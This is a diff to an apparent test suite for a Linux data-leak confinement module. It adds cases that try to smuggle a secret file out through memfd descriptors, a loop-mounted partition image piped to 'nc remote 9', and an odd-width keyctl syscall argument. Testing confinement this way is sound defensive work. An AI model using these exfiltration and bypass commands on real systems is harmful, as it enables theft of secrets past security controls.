@@ -110,6 +110,12 @@ in_child(action)
 with open("other", "rb") as file:
     send(file.read(100).rstrip(bytes(1)) or b"nothing")
 """
+# The parent has the file without a name before its child writes into it.
+MEMORY_FILE = SYSTEM + """
+fd = os.memfd_create("way")
+in_child(lambda data: os.write(fd, data))
+send(os.pread(fd, 100, 0))
+"""
 # A scanner gets a descriptor with the event.
 EVENT_OF_SCANNER = SYSTEM + """
 group = system.fanotify_init(4, os.O_RDONLY)
@@ -169,6 +175,7 @@ def scripts():
         "position-of-write": snippet(POSITIONS),
         "mapping-made-writable": snippet(MADE_WRITABLE.format(change="system.mprotect", rest="")),
         "mapping-made-writable-with-key": snippet(MADE_WRITABLE.format(change="system.pkey_mprotect", rest=", -1")),
+        "memory-file-of-parent": snippet(MEMORY_FILE),
         "event-of-scanner": snippet(EVENT_OF_SCANNER.format(get="os.read(fd, 100)")),
         "event-of-scanner-mapped": snippet(EVENT_OF_SCANNER.format(get="mmap.mmap(fd, 0, mmap.MAP_SHARED, mmap.PROT_READ)[:]")),
         # A disk that comes again. Nobody tells the module of the file.
@@ -177,6 +184,10 @@ def scripts():
                                    "disk/third; nc remote 9 < disk/third; umount disk",
         "disk-that-comes-again-mapped": DISK + "cp secret disk/copy; umount disk; mount /dev/ram0 disk; "
                                         "way mapped-after disk/copy; umount disk",
+        "mounted-partition": "truncate -s 8M image; modprobe loop max_part=4; printf 'n\\np\\n1\\n\\n\\nw\\n' | fdisk image; "
+                             "losetup /dev/loop6 image; blockdev --rereadpt /dev/loop6; sleep 0.5; "
+                             "mke2fs -q /dev/loop6p1; mkdir inside; mount /dev/loop6p1 inside; cp secret inside/copy; umount inside; "
+                             "losetup -d /dev/loop6; grep -a -m 1 Sphinx image | nc remote 9",
         "mounted-image": "truncate -s 4M image; mke2fs -q image; mkdir inside; mount -o loop image inside; cp secret inside/copy; "
                          "umount inside; grep -a -m 1 Sphinx image | nc remote 9",
     }
@@ -194,6 +205,8 @@ REFUSED = [
     Leak("packet-ring", snippet(RING)),
     Leak("command-to-disk", "modprobe sd_mod; modprobe scsi_debug dev_size_mb=8; until [[ -e /sys/block/sda ]]; do sleep 0.1; done\n" + snippet(COMMAND), passes=b"nothing"),
     Leak("key-updated", snippet(KEY), passes=b"x"),
+    Leak("key-updated-by-odd-number", snippet(KEY.replace("syscall(250, 2, key, data", "syscall(250, ctypes.c_long(2 + (1 << 32)), key, data")),
+         passes=b"x"),
     Leak("map-of-bpf", snippet(MAP_OF_BPF), passes=b"nothing"),
     Leak("name-of-mounted-tree", f"cat >serve.py <<'END'{NAME_OF_TREE}END\nremote-exec python3 -I serve.py & until [[ -e serves ]]; do sleep 0.02; done\n"
          "mkdir tree; mount -t 9p -o \"trans=tcp,version=9p2000.L,aname=$(sed -n 2p secret | tr , .)\" 10.77.0.2 tree & sleep 2; kill $!",
